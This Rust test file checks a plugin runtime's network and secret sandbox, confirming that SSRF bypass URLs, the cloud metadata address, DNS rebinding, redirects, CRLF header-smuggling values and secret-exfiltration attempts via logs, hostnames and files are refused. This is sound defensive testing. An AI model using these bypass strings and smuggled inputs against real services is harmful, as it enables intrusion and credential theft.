//! The network and secrets: what is granted works, what is not is denied, and what the other side
//! does wrong ends the request, or the call, and nothing else. All of it stays on this machine.

use std::collections::BTreeMap;
use std::io::{Read as _, Write as _};
use std::net::{IpAddr, Ipv4Addr};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, mpsc};
use std::time::Duration;

use serde_json::{Value, json};
use springline_model::Digest;
use springline_model::call::{Built, Call, Called};
use springline_model::capability::{Grants, HttpGrant, SecretGrant};
use springline_model::plugin::{CallError, Fault, Limit, Limits};
use springline_model::port::{Blobs as _, Plugins as _};
use springline_runtime::{Addresses, Network, Resolver};

use crate::neighbour::beside_a_neighbour;
use crate::server::{HELLO, Server, grant};
use crate::setup::Setup;

/// Names with the answers that they get, one after the other; the last one stays.
#[derive(Default)]
struct Names {
    answers: BTreeMap<&'static str, Vec<Vec<IpAddr>>>,
    asked: AtomicUsize,
}

impl Resolver for Names {
    fn resolve<'a>(&'a self, name: &'a str) -> Addresses<'a> {
        let at = self.asked.fetch_add(1, Ordering::SeqCst);
        let answers = self.answers.get(name);
        let answer = answers.and_then(|answers| answers.get(at).or(answers.last()).cloned());
        Box::pin(async move { answer.ok_or_else(|| std::io::Error::other("no such name")) })
    }
}

const HOME: IpAddr = IpAddr::V4(Ipv4Addr::LOCALHOST);

fn names(names: &[(&'static str, &[&[IpAddr]])]) -> Arc<Names> {
    let answers = names.iter().map(|(name, answers)| (*name, answers.iter().map(|one| one.to_vec()).collect()));
    Arc::new(Names { answers: answers.collect(), asked: AtomicUsize::new(0) })
}

fn granted(http: Vec<HttpGrant>) -> Grants {
    Grants { http, ..Grants::default() }
}

struct Net {
    setup: Setup,
}

impl Net {
    fn new(resolver: Arc<Names>) -> Option<Self> {
        let network = Network { resolver, ..Network::default() };
        Some(Self { setup: Setup::networked(network)? })
    }

    /// With `good.example`, `evil.example` and more at this machine.
    fn at_home() -> Option<Self> {
        let home: &[&[IpAddr]] = &[&[HOME]];
        Self::new(names(&[("good.example", home), ("evil.example", home), ("a.sub.example", home)]))
    }

    fn call(&self, grants: &Grants, ops: Value) -> Call {
        let mut call = self.setup.call(self.setup.probe("probe-net"), &json!({ "ops": ops }));
        call.grants = grants.clone();
        call.limits = limits();
        call
    }

    fn run(&self, grants: &Grants, ops: Value) -> Result<Called<Built>, CallError> {
        self.build(&self.call(grants, ops))
    }

    /// Runs a call beside a neighbour that must not notice.
    fn build(&self, call: &Call) -> Result<Called<Built>, CallError> {
        beside_a_neighbour(&self.setup, || self.setup.runtime.build(call, self.setup.tree(&[])))
    }
}

fn limits() -> Limits {
    Limits { wall_seconds: 60, http_connect_seconds: 20, http_first_byte_seconds: 20, ..Limits::default() }
}

#[track_caller]
fn denied(result: Result<Called<Built>, CallError>) -> String {
    match result.expect_err("it is denied").fault {
        Fault::Denied { message } => message,
        other => panic!("{other:?}"),
    }
}

#[track_caller]
fn past(result: Result<Called<Built>, CallError>, limit: Limit) {
    match result.expect_err("it goes past a limit").fault {
        Fault::Limit { limit: hit, message } => assert_eq!(hit, limit, "{message}"),
        other => panic!("{other:?}"),
    }
}

#[test]
fn what_is_granted_works_and_is_written_down() {
    let Some(net) = Net::at_home() else { return };
    let server = Server::answering(HELLO);
    let grants = granted(vec![grant("good.example", &server), grant("*.sub.example", &server)]);
    let call = net.call(
        &grants,
        json!([
            { "request": { "url": server.url("good.example", "/a?b"), "headers": { "x-test": "1" } } },
            { "request": { "url": server.url("GOOD.example", "/"), "method": "POST", "body": "sent" } },
            { "request": { "url": server.url("a.sub.example", "/") } },
        ]),
    );
    let built = net.build(&call).unwrap();
    assert_eq!(built.value.summary, "200:hello 200:hello 200:hello");
    let head = &server.seen()[0];
    assert!(head.starts_with("GET /a?b HTTP/1.1\r\n"), "{head}");
    assert!(
        head.contains(&format!("\r\nhost: good.example:{}\r\n", server.port)) && head.contains("x-test: 1"),
        "{head}"
    );
    let (good, sub) = (server.url("good.example", ""), server.url("a.sub.example", ""));
    assert_eq!(call.ledger.used().to_string(), format!("GET {sub} 1x, GET {good} 1x, POST {good} 1x"));
}

#[test]
fn each_denial_says_what_would_grant_it() {
    let Some(net) = Net::at_home() else { return };
    let server = Server::answering(HELLO);
    let get = |url: &str| json!([{ "request": { "url": url } }]);
    let url = server.url("good.example", "/");
    let message = denied(net.run(&Grants::default(), get(&url)));
    let line = format!(
        "grants: [ {{ plugin: probe-net, applications: [shop], environments: [site], http: [ {{ host: good.example, ports: [{}], scheme: http }} ] }} ]",
        server.port
    );
    assert!(message.contains(&line), "{message}");

    let grants = granted(vec![grant("good.example", &server)]);
    for (url, method) in [
        (url.clone(), "PUT"),
        (url.clone(), "CONNECT"),
        (url.replace("good", "evil"), "GET"),
        (url.replace("http:", "https:"), "GET"),
        (url.replace(&server.port.to_string(), "1"), "GET"),
        (url.replace("good", "user@good"), "GET"),
        (url.replace("good.example", "good.example."), "GET"),
        (url.replace("good.example", "127.0.0.1"), "GET"),
        (url.replace("good.example", "127.1"), "GET"),
        (url.replace("good.example", "0x7f000001"), "GET"),
        (url.replace("good.example", "2130706433"), "GET"),
        (url.replace("good.example", "[::ffff:127.0.0.1]"), "GET"),
    ] {
        let call = net.call(&grants, json!([{ "request": { "url": url, "method": method } }]));
        let message = denied(net.build(&call));
        assert!(!message.is_empty(), "{url}");
        assert_eq!(call.ledger.used().denied, ["http"], "{url}");
    }
    assert!(server.seen().is_empty(), "nothing was sent");

    // What is not asked for is not granted, whatever the operator says.
    let unasked = net.setup.probe("probe-net-unasked");
    let mut call = net.setup.call(unasked, &json!({ "url": url }));
    for grants in [grants, Grants::default()] {
        call.grants = grants;
        let message = denied(net.build(&call));
        assert!(message.contains("its author must"), "{message}");
    }
}

#[test]
fn private_addresses_need_a_word_of_their_own() {
    let server = Server::answering(HELLO);
    let metadata: IpAddr = [169, 254, 169, 254].into();
    let public: IpAddr = [93, 184, 215, 14].into();
    let resolver =
        names(&[("good.example", &[&[HOME]]), ("meta.example", &[&[metadata]]), ("mixed.example", &[&[public, HOME]])]);
    let Some(net) = Net::new(resolver) else { return };
    let mut public_only = grant("good.example", &server);
    public_only.private = false;
    let mut mixed = grant("mixed.example", &server);
    mixed.private = false;
    let get = |url: String| json!([{ "request": { "url": url } }]);
    for (grants, host, expected) in [
        (vec![public_only], "good.example", "a loopback address"),
        (vec![mixed], "mixed.example", "a loopback address"),
        (vec![grant("meta.example", &server)], "meta.example", "clouds serve credentials"),
        (vec![HttpGrant { private: false, ..grant("127.0.0.1", &server) }], "127.0.0.1", "a loopback address"),
        (
            vec![HttpGrant { private: false, ..grant("169.254.169.254", &server) }],
            "169.254.169.254",
            "clouds serve credentials",
        ),
        (vec![grant("0.0.0.0", &server)], "0.0.0.0", "no grant allows"),
    ] {
        let message = denied(net.run(&granted(grants), get(server.url(host, "/"))));
        assert!(message.contains(expected), "{host}: {message}");
    }
    assert!(server.seen().is_empty(), "nothing was sent");
    let literal = granted(vec![grant("127.0.0.1", &server)]);
    net.run(&literal, get(server.url("127.0.0.1", "/"))).unwrap();
}

#[test]
fn a_name_that_changes_its_address_is_judged_by_the_one_that_is_used() {
    let server = Server::answering(HELLO);
    let public: IpAddr = [93, 184, 215, 14].into();
    // First at home, where the server is, then elsewhere: a second look-up would not find the server.
    let resolver = names(&[("rebind.example", &[&[HOME], &[public]])]);
    let Some(net) = Net::new(Arc::clone(&resolver)) else { return };
    let grants = granted(vec![grant("rebind.example", &server)]);
    let url = server.url("rebind.example", "/");
    net.run(&grants, json!([{ "request": { "url": url } }])).unwrap();
    assert_eq!(resolver.asked.load(Ordering::SeqCst), 1, "a name is resolved once a request");
    assert_eq!(server.seen().len(), 1);
    let strict = granted(vec![HttpGrant { private: false, ..grant("rebind.example", &server) }]);
    let back = names(&[("rebind.example", &[&[public, HOME]])]);
    let net = Net::new(back).unwrap();
    denied(net.run(&strict, json!([{ "request": { "url": url } }])));
    assert_eq!(server.seen().len(), 1);
}

#[test]
fn a_redirect_is_a_request_of_its_own() {
    let Some(net) = Net::at_home() else { return };
    let evil = Server::answering(HELLO);
    let to = evil.url("evil.example", "/stolen");
    let server = Server::new(move |stream, _| {
        stream.write_all(format!("HTTP/1.1 302 Found\r\nlocation: {to}\r\ncontent-length: 0\r\n\r\n").as_bytes())
    });
    let url = server.url("good.example", "/");
    let grants = granted(vec![grant("good.example", &server)]);
    let unfollowed = net.run(&grants, json!([{ "request": { "url": url } }])).unwrap();
    assert_eq!(unfollowed.value.summary, "302:", "the host follows none");
    let message = denied(net.run(&grants, json!([{ "request": { "url": url, "redirects": 3 } }])));
    assert!(message.contains("evil.example"), "{message}");
    assert!(evil.seen().is_empty());
}

#[test]
fn a_request_is_what_it_says() {
    let Some(net) = Net::at_home() else { return };
    let server = Server::answering(HELLO);
    let grants = granted(vec![grant("good.example", &server)]);
    let url = server.url("good.example", "/");
    for headers in [
        json!({ "host": "evil.example" }),
        json!({ "transfer-encoding": "chunked" }),
        json!({ "content-length": "3" }),
        json!({ "connection": "upgrade" }),
        json!({ "expect": "100-continue" }),
        json!({ "x": "a\r\nx-smuggled: 1" }),
        json!({ "x\r\ny": "a" }),
    ] {
        let wanted = json!({ "url": url, "method": "POST", "body": "smuggled", "headers": headers });
        let error = net.run(&grants, json!([{ "request": wanted }])).expect_err("it is refused");
        assert!(matches!(error.fault, Fault::Failed { .. }), "{headers}: {error}");
    }
    for path in ["/\r\nx: y", "/ HTTP/1.1\r\n\r\nGET /evil"] {
        let error = net.run(&grants, json!([{ "request": { "url": server.url("good.example", path) } }]));
        assert!(matches!(error.expect_err("it is refused").fault, Fault::Failed { .. }));
    }
    assert!(server.seen().is_empty(), "{:?}", server.seen());
}

#[test]
fn a_path_is_no_address_of_another_server() {
    let Some(net) = Net::at_home() else { return };
    let server = Server::answering(HELLO);
    let grants = granted(vec![grant("good.example", &server)]);
    let ask = |path: &str| {
        net.run(&grants, json!([{ "path": { "server": format!("good.example:{}", server.port), "path": path } }]))
    };
    // The library below the host lets the last one through.
    for path in ["http://evil.example/", "evil.example:80", "evil/x", "*", "?x"] {
        let error = ask(path).expect_err("it is refused");
        assert!(matches!(error.fault, Fault::Failed { .. }), "{path}: {error}");
    }
    assert!(server.seen().is_empty(), "{:?}", server.seen());
    // What begins with a slash is a path, whatever it looks like.
    assert_eq!(ask("//evil.example/").unwrap().value.summary, "200");
    let heads = server.seen();
    assert_eq!(heads.len(), 1, "{heads:?}");
    assert!(heads[0].starts_with("GET //evil.example/ HTTP/1.1\r\n"), "{heads:?}");
    assert!(heads[0].contains(&format!("\r\nhost: good.example:{}\r\n", server.port)), "{heads:?}");
}

#[test]
fn a_server_that_misbehaves_ends_its_own_request() {
    let Some(net) = Net::at_home() else { return };
    let dripping = Server::new(|stream, _| {
        stream.write_all(b"HTTP/1.1 200 OK\r\n\r\n")?;
        loop {
            stream.write_all(b".")?;
            std::thread::sleep(Duration::from_millis(20));
        }
    });
    let silent = Server::new(|stream, _| stream.read(&mut [0; 1]).map(drop));
    let stalled = Server::new(|stream, _| {
        stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 10\r\n\r\nhalf")?;
        stream.read(&mut [0; 1]).map(drop)
    });
    let headers = Server::new(|stream, _| {
        stream.write_all(b"HTTP/1.1 200 OK\r\n")?;
        loop {
            stream.write_all(b"x: y\r\n")?;
            std::thread::sleep(Duration::from_millis(50));
        }
    });
    let cut = Server::answering("HTTP/1.1 200 OK\r\ncontent-length: 10\r\n\r\nhalf");
    let garbage = Server::answering("SSH-2.0-OpenSSH_9\r\n");
    let twice = Server::answering("HTTP/1.1 200 OK\r\ncontent-length: 1\r\ncontent-length: 2\r\n\r\nab");
    for (name, server, code) in [
        ("dripping", &dripping, "timeout"),
        ("silent", &silent, "timeout"),
        ("stalled", &stalled, "timeout"),
        ("headers", &headers, "timeout"),
        ("cut", &cut, ""),
        ("garbage", &garbage, ""),
        ("twice", &twice, ""),
    ] {
        let ops = json!([{ "request": { "url": server.url("good.example", "/") } }]);
        let mut call = net.call(&granted(vec![grant("good.example", server)]), ops);
        call.limits = Limits {
            http_total_seconds: 3,
            http_first_byte_seconds: if name == "headers" { 3 } else { 1 },
            http_between_bytes_seconds: 1,
            ..limits()
        };
        let error = net.build(&call).expect_err(name);
        let typed = matches!(&error.fault, Fault::Transient { .. } | Fault::Failed { .. });
        let told = format!("{error} {:?}", error.log);
        assert!(typed && told.to_lowercase().contains(code), "{name}: {told}");
    }
}

#[test]
fn bytes_headers_and_requests_are_bounded() {
    let Some(net) = Net::at_home() else { return };
    let huge = Server::new(|stream, _| {
        stream.write_all(b"HTTP/1.1 200 OK\r\n\r\n")?;
        loop {
            stream.write_all(&[b'x'; 65536])?;
        }
    });
    let bomb = Server::new(|stream, _| {
        stream.write_all(b"HTTP/1.1 200 OK\r\n")?;
        loop {
            stream.write_all(format!("x: {}\r\n", "y".repeat(4000)).as_bytes())?;
        }
    });
    let hello = Server::new(|stream, _| {
        stream.write_all(HELLO.as_bytes())?;
        // Takes whatever is sent.
        std::io::copy(stream, &mut std::io::sink()).map(drop)
    });
    let call = |server: &Server, wanted: Value| {
        let mut wanted = wanted;
        wanted["url"] = json!(server.url("good.example", "/"));
        let mut call = net.call(&granted(vec![grant("good.example", server)]), json!([{ "try": wanted }]));
        call.limits =
            Limits { http_received_mib: 1, http_sent_mib: 1, http_headers_kib: 16, http_requests: 3, ..limits() };
        call
    };
    past(net.build(&call(&huge, json!({}))), Limit::HttpReceived);
    past(net.build(&call(&bomb, json!({}))), Limit::HttpHeaders);
    past(net.build(&call(&hello, json!({ "count": 4 }))), Limit::HttpRequests);
    past(net.build(&call(&hello, json!({ "method": "POST", "bytes": 4 << 20 }))), Limit::HttpSent);
    let long = json!({ "headers": { "x": "y".repeat(32 << 10) } });
    past(net.build(&call(&hello, long)), Limit::HttpHeaders);
}

#[test]
fn a_waiting_request_is_dropped_with_its_call() {
    let Some(net) = Net::at_home() else { return };
    let silent = Server::new(|stream, _| stream.read(&mut [0; 1]).map(drop));
    let ops = json!([{ "request": { "url": silent.url("good.example", "/") } }]);
    let mut call = net.call(&granted(vec![grant("good.example", &silent)]), ops);
    call.limits = Limits { wall_seconds: 1, ..limits() };
    past(net.build(&call), Limit::Wall);
    let cancel = call.cancel.clone();
    call.limits = limits();
    let seen = Arc::clone(&silent.seen);
    std::thread::spawn(move || {
        while seen.lock().unwrap().len() < 2 {
            std::thread::yield_now();
        }
        cancel.cancel();
    });
    assert_eq!(net.build(&call).unwrap_err().fault, Fault::Cancelled);
}

const SECRET: &str = "hunter2-hunter2";

fn with_secret(net: &Net, http: Vec<HttpGrant>, hosts: &[&str]) -> Grants {
    let path = net.setup.directory.path().join("token");
    std::fs::write(&path, format!("{SECRET}\n")).unwrap();
    let hosts = hosts.iter().map(|host| (*host).to_owned()).collect();
    let token = SecretGrant { file: Some(path), hosts, ..SecretGrant::default() };
    Grants { http, secrets: [("token".to_owned(), token)].into_iter().collect(), ..Grants::default() }
}

#[test]
fn a_secret_goes_where_it_may_and_is_seen_nowhere() {
    let Some(net) = Net::at_home() else { return };
    let (good, evil) = (Server::answering(HELLO), Server::answering(HELLO));
    let grants = with_secret(&net, vec![grant("good.example", &good), grant("evil.example", &evil)], &["good.example"]);
    let bearer = |server: &Server, host: &str| json!({ "request": { "url": server.url(host, "/"), "headers": { "authorization": "Bearer {secret}" } } });
    let call = net.call(
        &grants,
        json!([
            { "request": { "url": evil.url("evil.example", "/before") } },
            { "secret": "token" },
            bearer(&good, "good.example"),
            { "log": "log {secret} {hex} {base64}" },
            { "print": "print {secret}" },
        ]),
    );
    let built = net.build(&call).unwrap();
    assert!(good.seen()[0].contains(&format!("authorization: Bearer {SECRET}")));
    let log: Vec<_> = built.log.iter().map(|line| line.text.as_str()).collect();
    assert_eq!(log, ["log [secret token] [secret token] [secret token]", "print [secret token]"]);
    assert_eq!(call.ledger.used().secrets, ["token"]);

    let message = denied(net.run(&grants, json!([{ "secret": "token" }, bearer(&evil, "evil.example")])));
    assert!(message.contains("the secret `token`") && message.contains("`hosts`"), "{message}");
    assert_eq!(evil.seen().len(), 1, "what was asked before the secret was read");
    // In a name that is looked up, in a message, in a denial; and across the ends of these two.
    let (message, name) = ("x".repeat((16 << 10) - 8), "x".repeat(64 - 8));
    for op in [
        json!({ "request": { "url": "http://hunter2-hunter2.evil.example/" } }),
        json!({ "request": { "url": "http://{secret}.evil.example/" } }),
        json!({ "fail": "it was {secret}, {base64}" }),
        json!({ "fail": format!("{message}{{secret}}") }),
        json!({ "secret": format!("{name}{SECRET}") }),
    ] {
        let error = net.run(&grants, json!([{ "secret": "token" }, op])).unwrap_err();
        let all = format!("{error} {:?}", error.log);
        assert!(!all.contains("hunter2"), "{all}");
    }
}

#[test]
fn a_body_that_was_begun_before_a_secret_was_read_is_cut_off_where_the_secret_may_not_go() {
    let Some(net) = Net::at_home() else { return };
    let (send, bodies) = mpsc::channel();
    // Its answer begins when the body does, and ends after it.
    let server = Server::new(move |stream, _| {
        let (mut body, mut piece) = (Vec::new(), [0; 1024]);
        while !body.ends_with(b"0\r\n\r\n")
            && let Ok(read @ 1..) = stream.read(&mut piece)
        {
            if body.is_empty() {
                stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 5\r\n\r\n")?;
            }
            body.extend_from_slice(&piece[..read]);
        }
        let _ = send.send(String::from_utf8_lossy(&body).into_owned());
        stream.write_all(b"hello")
    });
    let ops = json!([{ "begin": { "server": format!("good.example:{}", server.port), "secret": "token" } }]);
    for (hosts, arrives) in [(["good.example"], true), (["other.example"], false)] {
        let result = net.run(&with_secret(&net, vec![grant("good.example", &server)], &hosts), ops.clone());
        if arrives {
            assert_eq!(result.unwrap().value.summary, "200:hello");
        } else {
            let message = denied(result);
            assert!(message.contains("after the secret `token` was read"), "{message}");
        }
        // The call has ended, and its connection with it.
        let body = bodies.recv_timeout(Duration::from_secs(60)).expect("the server was reached");
        assert!(body.contains("begun:"), "{body}");
        assert_eq!(body.contains(SECRET), arrives, "{body}");
    }
}

#[test]
fn output_that_holds_a_secret_is_refused_as_far_as_that_can_be_told() {
    let Some(net) = Net::at_home() else { return };
    let grants = with_secret(&net, Vec::new(), &[]);
    let write = |path: &str, text: &str, after: usize| json!([{ "secret": "token" }, { "write": { "path": path, "text": text, "after": after } }]);
    for (path, text, after) in [
        ("deep/er/a.txt", "x{secret}x", 0),
        ("a.txt", "{hex}", 0),
        ("a.txt", "x{base64}", 0),
        // Beyond what is held in memory, and across the blocks of what is not.
        ("a.txt", "{secret}", (256 << 10) - 5),
        ("a.txt", "{secret}", (1 << 20) + 7),
        ("dir-{secret}/a.txt", "", 0),
    ] {
        let error = net.run(&grants, write(path, text, after)).unwrap_err();
        let Fault::Leak { secret, place } = &error.fault else { panic!("{error:?}") };
        let named = place.contains("a.txt") || &**place == "`/out/dir-[secret token]`";
        assert!(&**secret == "token" && named, "{place}");
        let stored = Digest::of(format!("x{SECRET}x"));
        assert!(!net.setup.blobs.contains(&stored), "nothing of it was stored");
    }
    // Who wants to get it out, can: docs/explanation/trust.md says how far this reaches.
    net.run(&grants, write("a.txt", "{reversed}", 0)).unwrap();
}

#[test]
fn a_secret_that_is_not_granted_or_not_there_is_told_apart() {
    let Some(net) = Net::at_home() else { return };
    let mut grants = with_secret(&net, Vec::new(), &[]);
    let message = denied(net.run(&grants, json!([{ "secret": "other" }])));
    let line = "grants: [ { plugin: probe-net, applications: [shop], environments: [site], secrets: { other: { env: OTHER } } } ]";
    assert!(message.contains(line), "{message}");
    grants.secrets["token"].file = Some(net.setup.directory.path().join("missing"));
    let error = net.run(&grants, json!([{ "secret": "token" }])).unwrap_err();
    assert!(matches!(&error.fault, Fault::Failed { message } if message.contains("missing")), "{error}");
}
